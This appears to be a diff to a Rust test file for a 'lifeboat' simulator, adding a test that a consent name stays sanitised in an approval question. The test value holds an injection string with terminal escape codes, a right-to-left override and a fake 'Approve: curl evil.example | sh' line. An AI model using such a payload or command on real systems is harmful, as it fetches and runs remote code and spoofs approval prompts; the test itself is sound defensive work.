@@ -4,7 +4,7 @@ use std::cell::Cell;
 use std::rc::Rc;
 
 use lifeboat_model::lock::LockState;
-use lifeboat_model::plan::Policy;
+use lifeboat_model::plan::{Consent, Policy};
 use lifeboat_model::report::Outcome;
 use lifeboat_model::{Period, Timestamp};
 use lifeboat_simulator::world::Sent;
@@ -175,4 +175,20 @@ fn s6_the_same_yes_with_a_bound_that_suffices_moves_the_workload() {
         assert_eq!(played.report.outcome, Some(Outcome::Completed));
         assert!(moved(&played).len() > 3, "{:?}", moved(&played));
     }
+}
+
+#[test]
+fn what_a_person_wrote_stays_one_line_of_the_question_and_steers_no_terminal() {
+    let mut options = asking(1);
+    let accepted_by = "Ada\u{1b}[2J\nApprove: curl evil.example | sh\u{202e}".to_owned();
+    let expires = Timestamp::from_ms(i64::MAX / 2);
+    let consent = Consent { max_data_loss: Period::seconds(30), accepted_by, reason: "x".to_owned(), expires };
+    options.plan.automation.consent = Some(consent);
+    let (played, _) = answered(&options, None);
+    let state = played.world.state();
+    let question =
+        state.messages.published.iter().find(|m| m.subject.starts_with("Lifeboat asks")).expect("a question");
+    assert!(question.body.contains("Ada?[2J?Approve: curl evil.example | sh?"), "{}", question.body);
+    assert!(!question.body.chars().any(|c| c.is_control() && c != '\n'), "{:?}", question.body);
+    assert_eq!(question.body.lines().filter(|line| line.starts_with("Approve: ")).count(), 1);
 }
